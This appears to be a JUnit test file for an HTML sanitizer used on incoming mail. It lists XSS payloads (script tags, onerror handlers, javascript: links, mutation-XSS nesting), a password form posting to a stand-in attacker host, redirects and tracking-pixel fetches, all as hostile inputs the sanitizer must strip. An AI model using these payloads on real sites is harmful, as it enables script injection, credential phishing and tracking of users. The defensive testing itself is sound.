package org.shouhou.adapters.out.html;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OwaspHtmlSanitizerTest {

    private final OwaspHtmlSanitizer sanitizer = new OwaspHtmlSanitizer();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' java\tscript:alert(1)'>x</a>",
                "<iframe src='https://evil.example'></iframe>",
                "<object data='x.swf'></object><embed src='x.swf'>",
                "<form action='https://evil.example'><input name='password'><button>OK</button></form>",
                "<base href='https://evil.example/'>",
                "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>body{background:url(https://evil.example/t.gif)}</style>",
                "<div style='background-image:url(https://evil.example/t.gif)'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<img src='https://evil.example/t.gif'>",
                "<img src='data:text/html;base64,PHNjcmlwdD4='>",
                "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
                "<table background='https://evil.example/t.gif'><tr><td>x</td></tr></table>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<!--><img src=x onerror=alert(1)-->"
            })
    void nothing_runs_leads_away_or_is_fetched_from_elsewhere(String hostile) {
        assertThat(sanitizer.sanitize(hostile))
                .doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("onerror=alert")
                .doesNotContain("evil.example")
                .doesNotContain("href")
                .doesNotContain("<svg", "<form", "<input", "<iframe", "<object", "<style", "svg+xml", "text/html")
                .doesNotContain("expression");
    }

    @Test
    void what_a_letter_consists_of_stays() {
        assertThat(sanitizer.sanitize("<p style=\"color:#c00\">主轴<b>异响</b></p>"))
                .isEqualTo("<p style=\"color:#c00\">主轴<b>异响</b></p>");
        assertThat(sanitizer.sanitize("<table border=\"1\"><tr><td colspan=\"2\">型号</td></tr></table>"))
                .contains("border=\"1\"", "colspan=\"2\"", "型号");
        assertThat(sanitizer.sanitize("<font color=\"red\">急</font><center>盖章</center>"))
                .contains("急", "盖章");
    }

    @Test
    void a_picture_within_the_mail_stays() {
        assertThat(sanitizer.sanitize("<img alt=\"铭牌\" src=\"data:image/png;base64,iVBORw0KGgo=\">"))
                .contains("src=\"data:image/png;base64,iVBORw0KGgo")
                .contains("铭牌");
    }

    @Test
    void the_words_of_a_link_stay() {
        assertThat(sanitizer.sanitize("<a href=\"https://x.example\">https://x.example</a>"))
                .contains("https://x.example")
                .doesNotContain("href");
    }

    @Test
    void what_is_broken_off_comes_out_well_formed() {
        assertThat(sanitizer.sanitize("<div><b>断")).isEqualTo("<div><b>断</b></div>");
    }
}
